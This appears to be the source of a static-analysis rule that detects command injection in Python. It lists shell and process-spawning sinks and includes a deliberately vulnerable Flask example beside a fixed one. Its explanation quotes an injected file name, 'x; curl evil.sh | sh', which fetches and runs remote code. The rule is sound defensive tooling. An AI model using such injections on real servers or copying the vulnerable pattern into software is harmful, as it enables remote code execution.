import { createTaintRule, type SinkArgument } from '../taint-rule.js';
import { argument, keywordArg, unparen } from '../../python/ast.js';
import { SHELL_ALWAYS, SHELL_OPTIONAL, commandLine, isTruthyLiteral } from './shell-command-built.js';
import { importsPackage } from '../../python/module-info.js';

/** `os.exec*`/`os.spawn*`: the program argument's position. */
const PROGRAM_ARG: Record<string, number> = {
  'os.execl': 0, 'os.execle': 0, 'os.execlp': 0, 'os.execlpe': 0, 'os.execv': 0, 'os.execve': 0, 'os.execvp': 0,
  'os.execvpe': 0, 'os.spawnl': 1, 'os.spawnle': 1, 'os.spawnlp': 1, 'os.spawnlpe': 1, 'os.spawnv': 1,
  'os.spawnve': 1, 'os.spawnvp': 1, 'os.spawnvpe': 1, 'os.posix_spawn': 0, 'os.posix_spawnp': 0,
  'asyncio.create_subprocess_exec': 0, 'pty.spawn': 0,
};

export default createTaintRule({
  kind: 'command',
  meta: {
    id: 'command-injection',
    area: 'secure-coding',
    summary: 'Attacker-controlled input reaches a shell command line or chooses the program to run.',
    severity: 'critical',
    confidence: 'high',
    cwe: ['CWE-78'],
    owasp: ['A03:2021'],
    bandit: ['B602', 'B605'],
    ruff: ['S602', 'S605'],
    messages: {
      tainted:
        'Command injection: {{source}} reaches `{{sink}}`; a value containing `;`, `|` or `$(...)` runs any command on the server. Pass arguments as a list without a shell.',
    },
    docs: {
      whatItDoes:
        'Follows attacker-controlled data (request data, route parameters, `input()`, `sys.argv`, socket reads) to command lines run through a shell (`os.system`, `os.popen`, `subprocess.*(..., shell=True)`, `subprocess.getoutput`, `asyncio.create_subprocess_shell`, paramiko `exec_command`) and to the program chosen by `subprocess.*` with a list, `os.exec*`, `os.spawn*` and `asyncio.create_subprocess_exec`. Values quoted with `shlex.quote()`, converted to numbers or checked against an allow-list are not flagged; extra list items passed to a program without a shell are arguments, not code, and are not flagged.',
      whyBad:
        'A shell interprets `;`, `&&`, `|`, backticks and `$(...)`: a file name such as `x; curl evil.sh | sh` runs the attacker\'s commands with the server\'s permissions. Choosing the program itself from input is as bad.',
      example:
        'import subprocess\nfrom flask import Flask, request\n\napp = Flask(__name__)\n\n@app.route("/ping")\ndef ping():\n    host = request.args["host"]\n    return subprocess.check_output(f"ping -c 1 {host}", shell=True)',
      useInstead:
        'import subprocess\nfrom flask import Flask, request\n\napp = Flask(__name__)\n\n@app.route("/ping")\ndef ping():\n    host = request.args["host"]\n    # No shell: the host is one argument of ping, never code. "--" ends the options.\n    return subprocess.check_output(["ping", "-c", "1", "--", host])',
      fixSafety:
        'No automatic fix: turning a command line into an argument list changes how it is split, and some commands rely on shell features (pipes, globs). Quote with `shlex.quote()` only when a shell is unavoidable.',
      references: [
        'https://cheatsheetseries.owasp.org/cheatsheets/OS_Command_Injection_Defense_Cheat_Sheet.html',
        'https://docs.python.org/3/library/subprocess.html#security-considerations',
        'https://docs.python.org/3/library/shlex.html#shlex.quote',
      ],
    },
    fixable: false,
  },
  callFilter: (name, method) =>
    (name !== null && (Object.hasOwn(SHELL_OPTIONAL, name) || Object.hasOwn(SHELL_ALWAYS, name) || Object.hasOwn(PROGRAM_ARG, name))) || method === 'exec_command',
  sinks(ctx, call) {
    const name = ctx.calleeName(call);
    const out: SinkArgument[] = [];
    if (name && SHELL_ALWAYS[name]) {
      const cmd = argument(call, 0, SHELL_ALWAYS[name]);
      if (cmd) out.push({ node: cmd, sink: `${name}()` });
      return out;
    }
    if (name && SHELL_OPTIONAL[name]) {
      const args = argument(call, 0, SHELL_OPTIONAL[name]);
      if (!args) return out;
      if (isTruthyLiteral(keywordArg(call, 'shell'))) {
        const line = commandLine(args);
        if (line) out.push({ node: line, sink: `${name}(..., shell=True)` });
        return out;
      }
      // Without a shell, only the program is dangerous: the first item, or a lone string.
      const a = unparen(args);
      const program = a.type === 'list' || a.type === 'tuple' ? a.namedChildren.find((c) => c.type !== 'comment') : a;
      if (program && program.type !== 'list_splat') out.push({ node: program, sink: `${name}() program` });
      return out;
    }
    if (name && PROGRAM_ARG[name] !== undefined) {
      const program = argument(call, PROGRAM_ARG[name] ?? 0);
      if (program) out.push({ node: program, sink: `${name}()` });
      return out;
    }
    const fn = call.childForFieldName('function');
    if (fn?.type === 'attribute' && fn.childForFieldName('attribute')?.text === 'exec_command' && importsPackage(ctx, 'paramiko')) {
      const cmd = argument(call, 0, 'command');
      if (cmd) out.push({ node: cmd, sink: 'exec_command()' });
    }
    return out;
  },
});
